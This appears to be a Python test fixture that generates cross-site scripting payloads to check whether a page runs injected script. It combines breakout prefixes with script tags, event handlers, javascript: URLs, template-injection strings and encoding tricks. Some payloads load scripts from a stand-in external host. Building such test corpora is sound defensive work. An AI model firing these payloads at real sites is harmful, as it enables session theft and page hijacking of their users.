"""Texts that try to run as script: one for each way out of a page's text, times each thing that could run there."""

import itertools
import random

RUN = "canary()"  # a page without the function complains in its console, one with it tells: see test_scripts.py
OUT = (  # of text, attributes, elements, comments, scripts, templates
    "", '">', "'>", "</title>", "</textarea>", "</script>", "</style>", "-->", "</a>", "</option></select>", "{{1}}",
    "&quot;>", "\\x22>", "]]>", "</noscript>", "\u2028", "%22%3E",
)  # fmt: skip
IN = (
    "<script>{run}</script>", "<ScRiPt>{run}</sCrIpT>", "<script src=//foreign.example/a.js></script>",
    "<img src=x onerror={run}>", "<img/src=x/onerror={run}>", "<svg onload={run}>", "<svg><script>{run}</script></svg>",
    "<body onload={run}>", "<input autofocus onfocus={run}>", "<details open ontoggle={run}>x</details>",
    "<video><source onerror={run}></video>", "<iframe src=javascript:{run}></iframe>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>", "<object data=javascript:{run}></object>",
    "<embed src=//foreign.example/a.swf>", "<a href=javascript:{run}>x</a>", "<a href=' &#1;javascript:{run}'>x</a>",
    "<form action=javascript:{run}><button>x</button></form>", "<base href=//foreign.example/>",
    "<link rel=stylesheet href=//foreign.example/a.css>", "<style>@import'//foreign.example/a.css'</style>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>", "<math><mi xlink:href=javascript:{run}>x</mi></math>",
    "<p style=background:url(//foreign.example/a.png)>x</p>", "<img src=//foreign.example/a.png>",
    "<!--><img src=x onerror={run}>", "<x hx-get=/ hx-trigger=load hx-on:load={run}>", "<x onclick={run} tabindex=1>",
)  # fmt: skip
WHOLE = (  # of their own kind: CommonMark, attributes without quotes, templates, JSON, encodings
    "[x](javascript:canary())", "[x](JaVaScRiPt&colon;canary())", "[x](data:text/html,<script>canary()</script>)",
    "![x](//foreign.example/a.png)", "<javascript:canary()>", "[x]: javascript:canary()\n\n[x]", "```<script>canary()</script>",
    '" onmouseover=canary() autofocus onfocus=canary() x="', "' onfocus=canary() autofocus x='", "` onfocus=canary() `",
    "{{ constructor.constructor('canary()')() }}", "${canary()}", "{% debug %}", "<%= canary() %>", "#{canary()}",
    '"}</script><script>canary()</script>', "+ADw-script+AD4-canary()+ADw-/script+AD4-", "\u202e<script>canary()</script>",
    "＜script＞canary()＜/script＞", "<scr\u200bipt>canary()</scr\u200bipt>", "&lt;script&gt;canary()&lt;/script&gt;",
    "javascript:canary()", "//foreign.example/", "data:text/html,<script>canary()</script>",
)  # fmt: skip


def payloads(count: int, seed: int) -> list[str]:
    """So many different ones: those of their own kind first, then ways out and in, mixed."""
    mixed = [out + inside.format(run=RUN) for out, inside in itertools.product(OUT, IN)]
    chosen = [
        *random.Random(seed).sample(WHOLE, min(len(WHOLE), count // 3)),
        *random.Random(seed).sample(mixed, count),
    ]
    return chosen[:count]
